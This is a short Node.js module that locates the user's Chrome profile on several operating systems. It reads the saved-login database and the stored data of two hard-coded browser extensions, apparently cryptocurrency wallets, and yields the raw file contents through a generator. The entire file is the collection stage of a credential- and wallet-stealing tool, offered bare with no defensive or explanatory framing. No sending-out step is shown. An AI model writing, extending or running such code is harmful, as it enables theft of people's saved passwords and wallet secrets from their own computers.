import { readdir, readFile } from 'node:fs/promises';
import { homedir, platform } from 'node:os';
import { join } from 'node:path';

const base = { linux: '.config/google-chrome', darwin: 'Library/Application Support/Google/Chrome', win32: 'AppData/Local/Google/Chrome/User Data' };
const profile = join(homedir(), base[platform()] ?? base.linux, 'Default');
const extensions = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];

async function* leaves(dir) {
  for (const name of await readdir(dir).catch(() => [])) yield join(dir, name);
}

export async function* gather() {
  yield { name: 'logins', data: await readFile(join(profile, 'Login Data')).catch(() => null) };
  for (const id of extensions) {
    for await (const file of leaves(join(profile, 'Local Extension Settings', id))) {
      yield { name: id, data: await readFile(file).catch(() => null) };
    }
  }
}
